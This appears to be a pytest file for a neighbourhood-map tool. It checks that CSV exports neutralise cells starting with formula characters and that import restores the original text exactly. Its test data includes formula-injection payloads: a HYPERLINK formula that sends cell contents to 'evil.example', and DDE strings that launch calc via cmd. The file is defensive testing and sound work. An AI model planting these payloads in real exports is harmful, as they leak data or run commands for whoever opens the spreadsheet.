"""CSV exports never hand a spreadsheet a formula, and our import gives the original text back exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from buurtkaart import cli, csv_cells
from buurtkaart import exchange as ex
from buurtkaart import vindplaatsen as vp
from buurtkaart.store import Store
from tests.store_fixtures import (  # noqa: F401  (the fixtures: store, org, open_stores, database_url)
    BOX,
    database_url_fixture,
    open_stores_fixture,
    org_fixture,
    postgres_admin_fixture,
    store_fixture,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
    "''two quotes",
    "'t Hoekske",
    "Café = De Pintelier",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", [*HOSTILE, "\tTab first", "\rCR first", "'\tquote tab", "", "'", "''", "gewoon"])
def test_neutralise_then_restore_is_exact_and_never_starts_a_formula(text: str) -> None:
    shown = csv_cells.neutralise(text)
    assert not str(shown).startswith(FORMULA_STARTS)
    assert csv_cells.restore(shown) == text


def test_text_that_needs_nothing_is_left_alone() -> None:
    assert csv_cells.neutralise("'t Hoekske") == "'t Hoekske" and csv_cells.restore("'t Hoekske") == "'t Hoekske"
    assert csv_cells.neutralise(-4.5) == -4.5  # numbers are numbers, not text


def test_the_map_export_reads_back_as_text_and_imports_exactly(store: Store, org: str, tmp_path: Path) -> None:
    names = [n for n in HOSTILE]
    for i, name in enumerate(names):
        vp.add(store, org, user="ann", layer="vindplaats", name=name, kind="tea_house", lon=4.37 + i * 0.001, lat=50.86,
               bounds=BOX, notes=f"-{i} bel de poortwachter", hours="=1+1")  # fmt: skip
    path = tmp_path / "kaart.csv"
    ex.export_items(store, org, path)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(names)
    for row in rows:
        for column, cell in row.items():
            if column not in ("lon", "lat"):
                assert not cell.startswith(FORMULA_STARTS), f"{column}: {cell!r} would run as a formula"
    assert {row["name"] for row in rows} >= {"'" + HOSTILE[0], "''=already quoted", "'t Hoekske"}
    other = vp.ensure_organisation(store, "Buurthuis Ander")
    ex.import_file(store, other, path, user="bo", layer=None, bounds=BOX)
    back = vp.list_items(store, other).sort_values("name")
    original = vp.list_items(store, org).sort_values("name")
    assert back["name"].tolist() == original["name"].tolist() == sorted(names)
    assert back["notes"].tolist() == original["notes"].tolist() and set(back["hours"]) == {"=1+1"}


def test_the_analyse_and_places_csv_are_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    frame = csv_cells.neutralise_frame(pd.DataFrame({"area": ["=1+1", "Josaphat"], "n": [-3, 5]}))
    assert frame["area"].tolist() == ["'=1+1", "Josaphat"] and frame["n"].tolist() == [-3, 5]
    out = tmp_path / "plekken.csv"
    assert cli.main(["places", "--quartier", "27", "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len(cells) > 10
    texts = [c for c in cells if c and not _number(c)]
    assert not any(c.startswith(FORMULA_STARTS) for c in texts)


def _number(text: str) -> bool:
    """Return True for a cell that is a plain number (a negative number is no formula)."""
    try:
        float(text)
    except ValueError:
        return False
    return True
